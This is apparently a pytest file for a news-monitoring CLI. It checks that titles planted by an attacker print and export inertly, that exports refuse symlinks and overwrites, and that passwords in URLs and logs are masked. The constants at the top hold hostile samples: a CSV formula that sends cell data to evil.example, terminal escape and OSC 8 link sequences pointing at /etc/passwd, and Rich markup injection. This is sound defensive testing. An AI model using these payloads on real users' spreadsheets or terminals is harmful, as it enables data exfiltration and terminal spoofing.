"""What the CLI shows and writes of hostile stored text, and of secrets: inert markup, no escape sequences,
inert CSV formulas, atomic exports that never follow a link or overwrite unasked, and no password anywhere.

The commands run as child processes on a real SQLite database holding hits whose titles were written by an
attacker; colour is forced so that Rich would emit links and styles if it parsed the titles as markup.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest

from config.settings import mask_secrets, mask_url
from rasid.safe_output import SafeLogFilter
from storage.db import make_engine
from storage.export import to_csv
from storage.repository import Repository
from storage.safe_text import inert_cell, strip_controls
from tests.storage.conftest import hit_verdict, outcome

MARKUP_TITLE = "روسيا [/bold] تعاون"  # "Russia [/bold] cooperation": once made `rasid hits` exit 1
LINK_TITLE = "[link=file:///etc/passwd]اضغط هنا[/link] روسيا"  # "click here ... Russia"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"روسيا")'
ESCAPE_TITLE = "روسيا \x1b]8;;file:///etc/passwd\x1b\\رابط\x1b]8;;\x1b\\ \x1b[2J\x1b[31mتعاون\x07"
SECRETS = ("DbPassw0rd", "QueryPassw0rd", "RedisPassw0rd", "RedisQueryPassw0rd", "SmtpPassw0rd")


def run(
    *args: str, env: dict[str, str] | None = None, stdin: str | None = None
) -> subprocess.CompletedProcess[str]:
    """``rasid ARGS`` as a user would run it, with colour forced and a wide terminal."""
    environment = {
        **os.environ,
        "COLUMNS": "400",
        "FORCE_COLOR": "1",
        "TERM": "xterm-256color",
        **(env or {}),
    }
    environment.pop("RASID_CONFIG", None)
    return subprocess.run(
        [sys.executable, "-m", "rasid.cli", *args],
        capture_output=True, text=True, timeout=120, env=environment, input=stdin,
    )  # fmt: skip


@pytest.fixture
def hostile_db(sqlite_url: str) -> str:
    """Stored hits whose titles carry Rich markup, a terminal hyperlink, escape sequences and a formula."""
    repo = Repository(make_engine(sqlite_url))
    repo.prepare()
    run_id = repo.start_run(["wam"])
    titles = (MARKUP_TITLE, LINK_TITLE, FORMULA_TITLE, ESCAPE_TITLE)
    # Texts with nothing in common, so each hit is its own story.
    texts = [" ".join(f"خبر{n}كلمة{w}" for w in range(60)) for n in range(len(titles))]
    repo.store(
        [outcome(f"https://wam.ae/ar/{i}", text, source="wam", title=title, verdict=hit_verdict(("مصر",)))
         for i, (title, text) in enumerate(zip(titles, texts, strict=True))],
        run_id,
    )  # fmt: skip
    return sqlite_url


# ------------------------------------------------------------------------------------ the terminal


@pytest.mark.parametrize("command", ["hits", "stories"])
def test_markup_in_stored_titles_prints_literally_and_makes_no_link(hostile_db: str, command: str) -> None:
    done = run(command, "--db", hostile_db)
    assert done.returncode == 0, done.stderr[-2000:]
    assert MARKUP_TITLE in done.stdout
    assert "[link=file:///etc/passwd]" in done.stdout
    assert "\x1b]8;" not in done.stdout  # no OSC 8 hyperlink, neither Rich's nor the stored one


def test_escape_sequences_in_a_stored_title_never_reach_the_terminal(hostile_db: str) -> None:
    done = run("hits", "--db", hostile_db)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "\x1b[2J" not in done.stdout and "\x1b[31m" not in done.stdout and "\x07" not in done.stdout
    assert "file:///etc/passwd\x1b" not in done.stdout
    csv_out = run("hits", "--db", hostile_db, "--format", "csv").stdout
    assert "\x1b" not in csv_out and "\x07" not in csv_out


def test_explain_prints_a_markup_title_literally() -> None:
    done = run("explain", "-", stdin=f"{MARKUP_TITLE}\nوقعت روسيا والإمارات اتفاقية تعاون في مجال الطاقة.\n")
    assert done.returncode == 0, done.stderr[-2000:]
    assert f"title: {MARKUP_TITLE}" in done.stdout


def test_strip_controls_keeps_arabic_text_and_drops_sequences() -> None:
    assert strip_controls(ESCAPE_TITLE) == "روسيا رابط تعاون"
    assert strip_controls("سطر\nثان\tو\x00\x7f\x9b2J") == "سطر\nثان\tو"


# ------------------------------------------------------------------------------------ CSV and exports


def test_a_formula_title_is_an_inert_cell_in_the_exported_csv(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "hits.csv"
    done = run("export", str(target), "--db", hostile_db)
    assert done.returncode == 0, done.stderr[-2000:]
    titles = {row["title"] for row in csv.DictReader(io.StringIO(target.read_text(encoding="utf-8")))}
    assert "'" + FORMULA_TITLE in titles
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised_and_numbers_are_left_alone(prefix: str) -> None:
    assert inert_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert inert_cell(-2.5) == -2.5
    assert inert_cell("روسيا - الصين") == "روسيا - الصين"


def test_csv_rendering_neutralises_what_storage_hands_out(hostile_db: str) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(Repository(make_engine(hostile_db)).hits(), "hits"))))
    assert {"'" + FORMULA_TITLE, MARKUP_TITLE} <= {row["title"] for row in rows}


def test_export_refuses_to_overwrite_without_force(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "hits.csv"
    target.write_text("keep me\n", encoding="utf-8")
    done = run("export", str(target), "--db", hostile_db)
    assert done.returncode == 2
    assert done.stderr.strip() == f"error: {target}: already exists; pass --force to overwrite it"
    assert target.read_text(encoding="utf-8") == "keep me\n"
    forced = run("export", str(target), "--force", "--db", hostile_db)
    assert forced.returncode == 0, forced.stderr[-2000:]
    assert target.read_text(encoding="utf-8").startswith("article_id,")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left


@pytest.mark.parametrize("force", [False, True])
def test_export_never_writes_through_a_symlink(hostile_db: str, tmp_path: Path, force: bool) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    done = run("export", str(link), *(["--force"] if force else []), "--db", hostile_db)
    assert done.returncode == 2
    assert done.stderr.strip() == f"error: {link}: is a symbolic link; refusing to write through it"
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert link.is_symlink()


# ------------------------------------------------------------------------------------ secrets

SECRET_ENV = {
    "RASID_DATABASE_URL": "postgresql+psycopg://rasid:DbPassw0rd@127.0.0.1:9/rasid?password=QueryPassw0rd",
    "RASID_CRAWL__REDIS_URL": "redis://:RedisPassw0rd@127.0.0.1:9/0?password=RedisQueryPassw0rd",
    "RASID_DIGEST__SMTP_PASSWORD": "SmtpPassw0rd",
}


def _leaks(done: subprocess.CompletedProcess[str]) -> list[str]:
    return [secret for secret in SECRETS if secret in done.stdout or secret in done.stderr]


def test_rasid_config_masks_every_secret() -> None:
    done = run("config", env=SECRET_ENV)
    assert done.returncode == 0, done.stderr[-2000:]
    assert _leaks(done) == []
    assert "redis://:***@127.0.0.1:9/0?password=***" in done.stdout
    assert "postgresql+psycopg://rasid:***@127.0.0.1:9/rasid?password=***" in done.stdout


def _sources(tmp_path: Path) -> Path:
    path = tmp_path / "sources.yaml"
    path.write_text(
        "sources:\n  - {name: a, url: 'http://127.0.0.1:9/', feeds: ['http://127.0.0.1:9/f.xml']}\n"
    )
    return path


def test_a_crawl_with_an_unusable_redis_url_is_one_line_without_its_password(tmp_path: Path) -> None:
    env = {**SECRET_ENV, "RASID_DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    done = run("-vv", "crawl", "--sources", str(_sources(tmp_path)), env=env)
    assert done.returncode == 2
    assert _leaks(done) == []
    assert "error: redis://:***@127.0.0.1:9/0?password=***: cannot use Redis:" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_crawl_with_an_unusable_database_url_is_one_line_without_its_password(tmp_path: Path) -> None:
    env = {key: value for key, value in SECRET_ENV.items() if "REDIS" not in key}
    done = run("-vv", "crawl", "--sources", str(_sources(tmp_path)), env=env)
    assert done.returncode == 2
    assert _leaks(done) == []
    assert (
        "error: postgresql+psycopg://rasid:***@127.0.0.1:9/rasid?password=***: cannot connect: connection refused"
        in done.stderr
    )


def test_mask_url_hides_userinfo_and_query_passwords_and_unparsable_urls() -> None:
    assert mask_url("postgresql://u:p1@h/d?sslmode=require&password=p2") == (
        "postgresql://u:***@h/d?sslmode=require&password=***"  # masked as written, never re-rendered
    )
    assert mask_url("not a url password=p3") == "***"
    assert (
        mask_secrets("connecting to redis://user:p4@h:6379/0 failed")
        == "connecting to redis://user:***@h:6379/0 failed"
    )


def test_a_raw_at_sign_in_a_password_is_masked_up_to_the_last_at_sign() -> None:
    # SQLAlchemy reads u:pa@SECRETX@h as password "pa" and host "SECRETX@h"; the mask must not follow it.
    assert (
        mask_url("postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x")
        == "postgresql+psycopg://u:***@127.0.0.1:1/x"
    )
    assert mask_url("redis://:pa@SECRETX@h/0") == "redis://:***@h/0"
    assert mask_url("postgresql://pa@SECRETX@h/d") == "postgresql://***@h/d"
    assert (
        mask_secrets("cannot reach 'redis://u:a/b@c@h:6379/0' now")
        == "cannot reach 'redis://u:***@h:6379/0' now"
    )
    assert mask_url("sqlite:////srv/a@b/rasid.db") == "sqlite:////srv/a@b/rasid.db"  # a path, no password
    assert mask_url("postgresql://rasid@h/d") == "postgresql://rasid@h/d"  # a user name alone is no secret


def test_the_storage_error_of_a_url_with_a_raw_at_sign_hides_the_whole_password() -> None:
    from storage.errors import masked

    engine_url = make_url_of("postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x")
    assert "SECRETX" not in masked(engine_url)


def make_url_of(url: str) -> str:
    """The URL as an engine renders it (``translate`` and ``schema`` mask this rendering)."""
    from sqlalchemy.engine import make_url

    return make_url(url).render_as_string(hide_password=False)


@pytest.mark.parametrize(
    "args, env",
    [
        (("hits", "--db", "postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x"), {}),
        (("config",), {"RASID_DATABASE_URL": "postgresql+psycopg://u:pa@SECRETX@127.0.0.1:1/x"}),
        (("config",), {"RASID_CRAWL__REDIS_URL": "redis://:pa@SECRETX@127.0.0.1:9/0"}),
        (("status",), {"RASID_CRAWL__REDIS_URL": "redis://:pa@SECRETX@127.0.0.1:notaport/0"}),
        (("hits", "--db", "postgresql+psycopg://u:SECRETX@127.0.0.1:notaport/x"), {}),
    ],
)
def test_a_url_with_a_raw_at_sign_or_a_bad_port_never_shows_its_password(
    args: tuple[str, ...], env: dict[str, str], tmp_path: Path
) -> None:
    done = run(*args, env={"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path), **env})
    assert "SECRETX" not in done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    if args[0] != "config" or "DATABASE" in "".join(env):
        assert done.returncode == 2, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1, done.stderr


def test_every_log_line_is_masked_and_free_of_control_characters() -> None:
    record = logging.LogRecord("x", logging.WARNING, __file__, 1, "cannot reach %s: %s", None, None)
    record.args = ("redis://:p5@h/0", "bad\x1b[2J title")
    assert SafeLogFilter().filter(record)
    assert record.getMessage() == "cannot reach redis://:***@h/0: bad title"
